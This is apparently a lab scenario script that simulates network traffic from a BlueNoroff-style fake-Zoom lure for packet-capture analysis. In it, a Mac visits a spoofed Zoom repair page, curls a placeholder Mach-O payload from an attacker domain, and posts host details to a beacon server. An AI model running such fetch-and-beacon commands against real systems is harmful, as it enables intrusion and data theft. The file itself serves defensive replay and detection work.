# SPDX-License-Identifier: Apache-2.0
"""BlueNoroff: a Web3 employee joins a call on a look-alike of Zoom, is told to repair the microphone,
and pastes a command that fetches a script. Names: Huntress, June 2025."""

START = "2025-06-12 13:02:44"
LAN = "10.34.1.0/24"
SUFFIX = ".pcapng"
SHOWS = {
    "dns": ["support.us05web-zoom.biz", "productnews.online", "readysafe.xyz"],
    "sni": ["support.us05web-zoom.biz", "readysafe.xyz"],
    "host": ["productnews.online"],
}


def play(lab):
    mac = lab.host("macbook", 23)
    lab.site("support.us05web-zoom.biz", "203.0.113.41", {"/repair": "<h1>Audio SDK update</h1>"})
    lab.site("readysafe.xyz", "203.0.113.42", {"/a": lab.bytes(6000, b"\xcf\xfa\xed\xfe")})
    lab.site("productnews.online", "203.0.113.43", port=80, tls=None)
    with lab.recording():
        lab.browse(mac, "https://support.us05web-zoom.biz/repair")
        lab.later(minutes=3)
        lab.curl(mac, "-A", "curl/8.7.1", "https://readysafe.xyz/a")
        lab.later(seconds=20)
        lab.curl(mac, "-A", "curl/8.7.1", "-d", "auth=1&host=macbook", "http://productnews.online/")
